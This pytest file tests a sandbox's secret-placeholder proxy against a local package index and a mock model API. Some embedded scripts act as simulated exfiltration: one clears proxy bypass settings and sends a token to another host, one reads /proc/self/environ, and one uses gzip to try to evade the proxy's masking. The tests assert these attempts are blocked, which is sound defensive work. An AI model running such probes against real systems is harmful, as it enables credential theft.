"""Credentials a capsule never holds (issue 38), end to end through the real tools, helper and proxy.

The servers are the test's own, on the host's 127.0.0.1 (ports the kernel picks), which the
capsule's allowlist names by exact address: every request goes through the capsule's egress
proxy.  A token-protected PEP 503 index (Basic auth, user ``__token__``, as private indexes
take a token) and a model-API-like server checking an ``X-Api-Key`` header record every
request head they get; a third server stands for another allowed host.  Forks of the
capsule (capsule_fork, and with count) get its secrets by name, each with a placeholder of
its own.
"""

from __future__ import annotations

import base64
import gzip
import json
import os
import sqlite3
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from mcp_server.capsules.witness import witness_key
from mcp_server.core.secretbind import make_binding
from mcp_server.fs import witness_trust
from mcp_server.fs.secretstore import SecretStore
from sandbox.errors import CcwError
from tests.support import netfixtures as nf
from tests.support.secretsearch import files_holding

PYTHON = "/usr/bin/python3"
INDEX_TOKEN = b"pypi-" + b"Zq7" * 12  # 41 bytes
API_KEY = b"sk-test-" + b"K9x" * 10


class Recording(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, handler: type[BaseHTTPRequestHandler], wheels: Path | None = None) -> None:
        super().__init__(("127.0.0.1", 0), handler)
        self.heads: list[bytes] = []
        self.wheels = wheels


class Handler(BaseHTTPRequestHandler):
    server: Recording

    def log_message(self, format: str, *args: Any) -> None:  # quiet
        pass

    def _send(self, status: int, body: bytes, kind: str = "text/plain") -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _record(self) -> None:
        self.server.heads.append(f"{self.requestline}\r\n{self.headers}".encode())

    def do_GET(self) -> None:  # the index: Basic __token__:INDEX_TOKEN
        self._record()
        wanted = b"Basic " + base64.b64encode(b"__token__:" + INDEX_TOKEN)
        if self.server.wheels is None:
            self._send(200, b"another host\n")
        elif (self.headers.get("Authorization") or "").encode() != wanted:
            self._send(401, b"token needed\n")
        elif self.path.rstrip("/") == "/simple/ccwtiny":
            links = "".join(f'<a href="/wheels/{w.name}">{w.name}</a>\n' for w in self.server.wheels.glob("*.whl"))
            self._send(200, f"<!DOCTYPE html><html><body>\n{links}</body></html>\n".encode(), "text/html")
        elif self.path.startswith("/wheels/") and (self.server.wheels / self.path[8:]).is_file():
            self._send(200, (self.server.wheels / self.path[8:]).read_bytes(), "application/octet-stream")
        else:
            self._send(404, b"not found\n")

    def do_POST(self) -> None:  # the model API: X-Api-Key, answers what it was asked and its key echoed
        self._record()
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if (self.headers.get("X-Api-Key") or "").encode() != API_KEY:
            self._send(401, b'{"error": "bad key"}', "application/json")
            return
        answer = json.dumps({"path": self.path, "asked": json.loads(body), "key_seen": API_KEY.decode()}).encode()
        if "gzip" not in (self.headers.get("Accept-Encoding") or ""):
            self._send(200, answer, "application/json")
            return
        packed = gzip.compress(answer)  # as a real server answers a client that accepts gzip
        self.send_response(200)
        self.send_header("Content-Encoding", "gzip")
        self.send_header("Content-Length", str(len(packed)))
        self.end_headers()
        self.wfile.write(packed)


@pytest.fixture
def servers(tmp_path: Path, root_required: None) -> Iterator[tuple[Recording, Recording, Recording]]:
    nf.build_wheel(tmp_path / "wheels")
    made = (Recording(Handler, tmp_path / "wheels"), Recording(Handler), Recording(Handler, tmp_path / "none"))
    threads = [threading.Thread(target=server.serve_forever, daemon=True) for server in made]
    for thread in threads:
        thread.start()
    yield made
    for server in made:
        server.shutdown()
        server.server_close()


def _port(server: Recording) -> int:
    return int(server.server_address[1])


# The value by hex: never in an argv.
ENVIRON = ("import sys; data = open('/proc/self/environ', 'rb').read(); "
           "print(bytes.fromhex(sys.argv[1]) in data, sys.argv[2].encode() in data)")
ROUTED = ("import json, os, urllib.request; base = 'http://10.99.0.1:3128/route/API_KEY'; "
          "req = urllib.request.Request(base + '/v1/messages', data=json.dumps({'q': 'hi'}).encode(), "
          "headers={'Content-Type': 'application/json', 'X-Api-Key': 'not-the-key'}); "
          "print(urllib.request.urlopen(req).read().decode())")
# curl asking for gzip, as curl --compressed, pip, git and node's clients do: the server would
# echo the key compressed, where the proxy's mask cannot read it.
COMPRESSED = ("NO_PROXY= no_proxy= exec curl -sS --compressed -H \"X-Api-Key: $API_KEY\" "
              "-H 'Content-Type: application/json' -d '{\"q\": \"zip\"}' http://127.0.0.1:%d/v1/messages")
# A fork's request to the index with its own placeholder, then with its parent's (argv[2]).
FORKED = ("import base64, os, sys, urllib.request\n"
          "for token in (os.environ['PIP_TOKEN'], sys.argv[2]):\n"
          " auth = base64.b64encode(b'__token__:' + token.encode()).decode()\n"
          " req = urllib.request.Request('http://127.0.0.1:%s/simple/ccwtiny/', "
          "headers={'Authorization': 'Basic ' + auth})\n"
          " try: print(urllib.request.urlopen(req).status)\n"
          " except Exception as e: print(e.code, e.read().decode())\n")
LEAK = ("import os, urllib.request; os.environ['no_proxy'] = os.environ['NO_PROXY'] = ''; "
        "req = urllib.request.Request('http://127.0.0.1:%d/x', "
        "headers={'Authorization': 'Bearer ' + os.environ['PIP_TOKEN']}); "
        "exec('try:\\n urllib.request.urlopen(req)\\nexcept Exception as e:\\n print(e, e.read().decode())')")


def test_a_private_index_and_a_model_api_through_placeholders(tools: Any, tmp_path: Path, servers: Any,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    index, other, api = servers
    monkeypatch.setenv("PIP_TOKEN", "the-callers-own-value")  # a whitelisted name: never what a capsule or fork sees
    state = tools.runtime.state.root
    os.chmod(state, 0o700)
    store = SecretStore(state)
    store.put(make_binding("PIP_TOKEN", [f"127.0.0.1:{_port(index)}"], None, "basic-password"), "stdin", INDEX_TOKEN)
    store.put(make_binding("API_KEY", [f"127.0.0.1:{_port(api)}"], "X-Api-Key"), "stdin", API_KEY)
    workspace = tmp_path / "project"
    workspace.mkdir()
    allow = [f"127.0.0.1:{_port(server)}" for server in servers]
    # NO_PROXY names 127.0.0.1 (the jail's own loopback); the test's servers are the host's.
    install = ("NO_PROXY= no_proxy= exec .venv/bin/pip install --no-cache-dir --disable-pip-version-check --index-url "
               f"http://__token__:$PIP_TOKEN@127.0.0.1:{_port(index)}/simple/ ccwtiny")

    async def scenario(t: Any) -> dict[str, Any]:
        refused = None
        try:
            await t.call("capsule_create", {"workspace": str(workspace), "network": allow, "secrets": ["NOPE"]})
        except Exception as exc:
            refused = str(exc)
        stranded = None  # a secret whose host no rule allows: its placeholder could never be swapped
        try:
            await t.call("capsule_create", {"workspace": str(workspace), "network": allow[:2], "secrets": ["API_KEY"]})
        except Exception as exc:
            stranded = str(exc)
        cap = (await t.call("capsule_create", {"workspace": str(workspace), "network": allow,
                                               "secrets": ["PIP_TOKEN", "API_KEY"]}))["capsule_id"]

        async def run(cmd: list[str]) -> dict[str, Any]:
            return await t.call("capsule_exec", {"capsule_id": cap, "cmd": cmd, "timeout_ms": 120000})

        out = {"refused": refused, "stranded": stranded, "placeholder": await run(["sh", "-c", "echo $PIP_TOKEN"])}
        out["environ"] = await run([PYTHON, "-c", ENVIRON, INDEX_TOKEN.hex(), out["placeholder"]["stdout"].strip()])
        out["venv"] = await run([PYTHON, "-m", "venv", ".venv"])
        out["pip"] = await run(["sh", "-c", install])
        out["used"] = await run(["python", "-c", "import ccwtiny; print(ccwtiny.GREETING)"])
        out["leak"] = await run([PYTHON, "-c", LEAK % _port(other)])
        out["routed"] = await run([PYTHON, "-c", ROUTED])
        out["compressed"] = await run(["sh", "-c", COMPRESSED % _port(api)])
        # Forks (one, and two at once) get the parent's secrets by name with placeholders of their own.
        forks = [(await t.call("capsule_fork", {"capsule_id": cap}))["capsule_id"]]
        forks += (await t.call("capsule_fork", {"capsule_id": cap, "count": 2}))["capsule_ids"]
        parent = out["placeholder"]["stdout"].strip()
        out["forks"] = [await t.call("capsule_exec", {"capsule_id": fork, "cmd": [
            "sh", "-c", f'echo $PIP_TOKEN; NO_PROXY= no_proxy= exec {PYTHON} -c "$1" x {parent}', "sh",
            FORKED % _port(index)]}) for fork in forks]
        return out

    out = tools.run(scenario)
    assert out["refused"] is not None and "ccw secret list" in out["refused"]
    assert out["stranded"] is not None and f"secret API_KEY is bound to 127.0.0.1:{_port(api)}, and no rule" \
        in out["stranded"] and f"--network 127.0.0.1:{_port(api)}" in out["stranded"]
    placeholder = out["placeholder"]["stdout"].strip()
    assert placeholder.startswith("ccwph_") and len(placeholder) == len(INDEX_TOKEN)
    assert out["environ"]["stdout"] == "False True\n", out["environ"]  # the placeholder is there, the value not
    assert out["pip"]["exit_code"] == 0, out["pip"]["stderr"]
    assert out["used"]["stdout"] == "hello from ccwtiny\n"
    assert any(b"/wheels/ccwtiny" in head for head in index.heads)
    assert all(placeholder.encode() not in head for head in index.heads)  # the index got the value, always
    # The placeholder sent to another allowed host: refused before it went, recorded, told.
    assert "403" in out["leak"]["stdout"] and "exfiltration attempt" in out["leak"]["stdout"], out["leak"]
    assert other.heads == []
    [leak] = out["leak"]["touched"]["network"]
    assert leak["allowed"] is False and leak["reason"].startswith("exfiltration attempt: the placeholder of "
                                                                  "secret PIP_TOKEN"), leak
    # The model API by its reverse route: the key added, its echo masked.
    routed = json.loads(out["routed"]["stdout"])
    assert routed["path"] == "/v1/messages" and routed["asked"] == {"q": "hi"}
    assert routed["key_seen"].startswith("ccwph_") and routed["key_seen"] != API_KEY.decode()
    assert [r["allowed"] for r in out["routed"]["touched"]["network"]] == [True]
    # Asked for gzip, the server was asked for none (the proxy's Accept-Encoding: identity):
    # the key's echo came plain, and masked.
    compressed = json.loads(out["compressed"]["stdout"])
    assert compressed["asked"] == {"q": "zip"} and compressed["key_seen"].startswith("ccwph_"), out["compressed"]
    assert b"accept-encoding: identity" in api.heads[-1].lower() and b"gzip" not in api.heads[-1].lower()
    # Each fork: a placeholder of its own, which the index accepts (swapped for the value); its
    # parent's placeholder, sent from the fork, means nothing there and is refused.
    mine = [fork["stdout"].splitlines()[0] for fork in out["forks"]]
    assert len({placeholder, *mine}) == 4 and all(p.startswith("ccwph_") for p in mine), mine
    for fork in out["forks"]:
        _, own, theirs = fork["stdout"].splitlines()[:3]
        assert own == "200" and theirs.startswith("403 ") and "exfiltration attempt" in theirs, fork
        assert [r["allowed"] for r in fork["touched"]["network"]] == [True, False]
    # Neither value anywhere the capsule, its person or its journal can read.
    everything = json.dumps(out).encode()
    for value in (INDEX_TOKEN, API_KEY):
        assert value not in everything
    assert files_holding(state, (INDEX_TOKEN, API_KEY), {"secrets.json"}) == []
    assert files_holding(workspace, (INDEX_TOKEN, API_KEY), set()) == []
    with sqlite3.connect(tools.runtime.state.db_path) as db:
        told = [data for (data,) in db.execute("SELECT data FROM events WHERE kind = 'net.connection'")]
    assert any('"reason": "exfiltration attempt: the placeholder of secret PIP_TOKEN' in data for data in told), told


def _one_secret(tools: Any, tmp_path: Path) -> tuple[Recording, str, Path, str]:
    """A recording server (running), its host:port, which the state dir's secret PIP_TOKEN is bound
    to, an empty workspace, and a script sending ``Authorization: Bearer $PIP_TOKEN`` there."""
    server = Recording(Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    host = f"127.0.0.1:{_port(server)}"
    os.chmod(tools.runtime.state.root, 0o700)
    SecretStore(tools.runtime.state.root).put(make_binding("PIP_TOKEN", [host]), "stdin", INDEX_TOKEN)
    workspace = tmp_path / "project"
    workspace.mkdir()
    send = ("import os, urllib.request; os.environ['no_proxy'] = os.environ['NO_PROXY'] = ''; "
            f"req = urllib.request.Request('http://{host}/', headers={{'Authorization': "
            "'Bearer ' + os.environ.get('PIP_TOKEN', 'none')}); print(urllib.request.urlopen(req).status)")
    return server, host, workspace, send


def test_a_policy_replay_never_gets_the_servers_own_value_of_a_secrets_name(
        tools: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Promotion's replay (require_replay_ok) re-runs the capsule's commands with its whitelisted
    variables' values from this server's environment: a secret's name is not among them, so a
    front end started with the same variable set (a real token of the person's) does not hand
    it to the replay's jail, which would send it where the recorded command sends the placeholder."""
    own = "ghp_the-servers-own-token"
    monkeypatch.setenv("PIP_TOKEN", own)
    server, host, workspace, send = _one_secret(tools, tmp_path)

    async def scenario(t: Any) -> dict[str, Any]:
        await t.call("policy_set", {"name": "replayed", "rules": {"require_replay_ok": True}})
        cap = (await t.call("capsule_create", {"workspace": str(workspace), "network": [host],
                                               "secrets": ["PIP_TOKEN"]}))["capsule_id"]
        ran = await t.call("capsule_exec", {"capsule_id": cap, "cmd": [PYTHON, "-c", send]})
        promoted = await t.call("capsule_promote", {"capsule_id": cap, "policies": ["replayed"], "dry_run": True})
        return {"ran": ran, "promoted": promoted}

    try:
        out = tools.run(scenario)
    finally:
        server.shutdown()
        server.server_close()
    assert out["ran"]["stdout"] == "200\n", out["ran"]
    heads = b"".join(server.heads)
    assert INDEX_TOKEN in heads  # the capsule's run: its placeholder swapped for the secret's value
    assert own.encode() not in heads and own not in json.dumps(out)  # the replay's: never the server's own
    # The replay's run: this state dir's secret, through a placeholder of the replay's own (capsules/replay_secrets.py).
    assert len(server.heads) == 2 and b"Bearer " + INDEX_TOKEN in server.heads[1]
    assert "replay_ok" in out["promoted"]["policy_report"], out["promoted"]


def test_a_witness_replayed_in_another_state_dir_binds_its_secret_there_or_is_refused(
        tools: Any, tmp_path: Path) -> None:
    """A witness names its capsule's secrets and their hosts, never a value.  Replayed on another
    state dir: refused while that state dir does not trust its maker's key (PERMISSION_DENIED, even
    with allow_untrusted), has no secret of the name (NOT_FOUND, with the ``ccw secret set`` that
    makes it) or has it bound to another host (CONFLICT, naming the host); with the same binding,
    the replay's request carries that state dir's value."""
    server, host, workspace, send = _one_secret(tools, tmp_path)

    async def made(t: Any) -> dict[str, Any]:
        cap = (await t.call("capsule_create", {"workspace": str(workspace), "network": [host],
                                               "secrets": ["PIP_TOKEN"]}))["capsule_id"]
        ran = await t.call("capsule_exec", {"capsule_id": cap, "cmd": [PYTHON, "-c", send]})
        return {"ran": ran, "witness": await t.call("capsule_witness", {"capsule_id": cap})}

    other_value = b"pypi-" + b"Other" * 7 + b"x"
    elsewhere = tmp_path / "state2"
    elsewhere.mkdir(mode=0o700)

    async def replayed(t: Any) -> dict[str, Any]:
        args = {"path": witness["path"], "allow_untrusted": True, "network": [host]}
        out: dict[str, Any] = {}
        for step, bound in (("untrusted", None), ("missing", None), ("other host", "127.0.0.1:1"), ("same", host)):
            if step == "missing":  # the person trusts the maker's key (ccw witness trust)
                witness_trust.trust(elsewhere, witness_trust.parse_public(maker), "maker", b"")
            if bound is not None:
                SecretStore(elsewhere).put(make_binding("PIP_TOKEN", [bound]), "stdin", other_value)
            try:
                out[step] = await t.call("capsule_replay", args)
            except CcwError as exc:
                out[step] = {"code": exc.code, "message": exc.message}
        return out

    maker = witness_key(tools.runtime.state).public_text
    try:
        first = tools.run(made)
        witness = first["witness"]
        out = type(tools)(elsewhere).run(replayed)
    finally:
        server.shutdown()
        server.server_close()
    assert first["ran"]["stdout"] == "200\n", first["ran"]
    assert INDEX_TOKEN not in Path(witness["path"]).read_bytes()  # names and hosts only (compressed or not)
    assert out["untrusted"]["code"] == "PERMISSION_DENIED" and "PIP_TOKEN" in out["untrusted"]["message"], out
    assert out["missing"]["code"] == "NOT_FOUND", out
    assert f"`ccw secret set PIP_TOKEN --host {host}`" in out["missing"]["message"]
    assert out["other host"]["code"] == "CONFLICT" and "127.0.0.1:1" in out["other host"]["message"], out
    assert out["same"]["replay_ok"] is True and "PIP_TOKEN" not in out["same"]["env_missing"], out["same"]
    assert len(server.heads) == 2 and b"Bearer " + other_value in server.heads[1]  # that state dir's value
    assert files_holding(elsewhere, (other_value, INDEX_TOKEN), {"secrets.json"}) == []
